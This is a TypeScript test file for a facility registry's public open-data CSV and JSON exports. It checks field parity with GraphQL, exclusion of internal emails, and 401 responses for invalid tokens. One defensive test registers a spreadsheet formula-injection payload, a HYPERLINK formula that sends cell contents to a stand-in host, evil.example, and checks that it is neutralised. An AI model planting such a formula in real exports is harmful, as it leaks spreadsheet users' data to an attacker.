import { startTestHub, type TestHub } from '../support/startHub';
import { registerActiveStructure } from '../support/fixtures';
import { parseCsv } from '../support/csv';


describe('open data: the public registry at a stable URL (seed 002)', () => {
  let hub: TestHub;
  beforeAll(async () => {
    hub = await startTestHub();
    await registerActiveStructure(hub, 'OD-1', {
      name: 'Comunità "Il Faro", Roma',
      address: 'Via del Mare 1',
      healthAuthority: 'ROMA_1',
      gender: 'MIXED',
      target: 'MOTHER_AND_CHILD',
      phone: '+39 06 1234567',
      publicEmail: 'info@ilfaro.example.org',
    });
    await registerActiveStructure(hub, 'OD-2', { contactEmail: 'interno@example.org' });
  });
  afterAll(async () => {
    await hub?.stop();
  });

  it('serves CSV and JSON without a token, equal to the public GraphQL query, with no REGISTRY data', async () => {
    const base = hub.url.replace(/\/graphql$/, '');
    const fields = ['code', 'name', 'type', 'municipality', 'province', 'address', 'managingEntity', 'capacity', 'emergencyCapacity', 'minAge', 'maxAge', 'status'];
    const added = ['municipalityName', 'healthAuthority', 'gender', 'target', 'phone', 'publicEmail'];
    const gql = await hub.gql(undefined, `{ structures(first: 50) { nodes { ${[...fields, ...added].join(' ')} } } }`);
    expect(gql.errors).toBeUndefined();
    const expected = (gql.data!.structures as { nodes: Record<string, unknown>[] }).nodes;

    const json = await fetch(`${base}/open-data/structures.json`);
    expect(json.status).toBe(200);
    const body = (await json.json()) as { structures: Record<string, unknown>[]; fields: string[] };
    expect(body.structures).toEqual(expected);
    // the original columns first, in their order, then the ones added by issue 6
    expect(body.fields).toEqual([...fields, ...added]);
    expect(body.structures.find((x) => x.code === 'OD-1')).toMatchObject({
      municipality: '058091',
      municipalityName: 'Roma',
      healthAuthority: 'ROMA_1',
      gender: 'MIXED',
      target: 'MOTHER_AND_CHILD',
      phone: '+39 06 1234567',
      publicEmail: 'info@ilfaro.example.org',
    });

    const csv = await fetch(`${base}/open-data/structures.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    const text = await csv.text();
    expect(text).not.toContain('interno@example.org');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(body.fields);
    const back = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    expect(back.find((r) => r.code === 'OD-1')!.name).toBe('Comunità "Il Faro", Roma');
    expect(back).toHaveLength(expected.length);
    for (const e of expected) {
      const r = back.find((x) => x.code === e.code)!;
      for (const f of header) expect(r[f]).toBe(e[f] === null || e[f] === undefined ? '' : String(e[f]));
    }
  });
});

describe('open data CSV: a cell a spreadsheet would run as a formula is neutralised', () => {
  let hub: TestHub;
  beforeAll(async () => {
    hub = await startTestHub();
    await registerActiveStructure(hub, 'OD-F', { name: '=HYPERLINK("http://evil.example/?x="&A1,"Apri")', address: '@SUM(1+1)', phone: '+39 06 1234567' });
  });
  afterAll(async () => {
    await hub?.stop();
  });

  it('prefixes = + - @ cells with an apostrophe in the CSV, keeps phone numbers, and leaves the JSON as registered', async () => {
    const base = hub.url.replace(/\/graphql$/, '');
    const [header, ...rows] = parseCsv(await (await fetch(`${base}/open-data/structures.csv`)).text());
    const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[0] === 'OD-F')![i]]));
    expect(row.name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Apri")`);
    expect(row.address).toBe(`'@SUM(1+1)`);
    expect(row.phone).toBe('+39 06 1234567');
    const json = (await (await fetch(`${base}/open-data/structures.json`)).json()) as { structures: Record<string, unknown>[] };
    expect(json.structures.find((s) => s.code === 'OD-F')!.name).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Apri")');
  });

  it('answers 401 to a present but invalid token, as POST /graphql does (docs/privacy.md §1: never degraded to anonymous)', async () => {
    const base = hub.url.replace(/\/graphql$/, '');
    for (const path of ['/open-data/structures.csv', '/open-data/structures.json']) {
      const res = await fetch(`${base}${path}`, { headers: { authorization: 'Bearer not-a-token' } });
      expect({ path, status: res.status }).toEqual({ path, status: 401 });
      expect(((await res.json()) as { errors: { extensions: { code: string } }[] }).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    }
    const valid = hub.token({ role: 'REGIONAL_ANALYST', sub: 'analyst' });
    expect((await fetch(`${base}/open-data/structures.csv`, { headers: { authorization: `Bearer ${valid}` } })).status).toBe(200);
  });
});
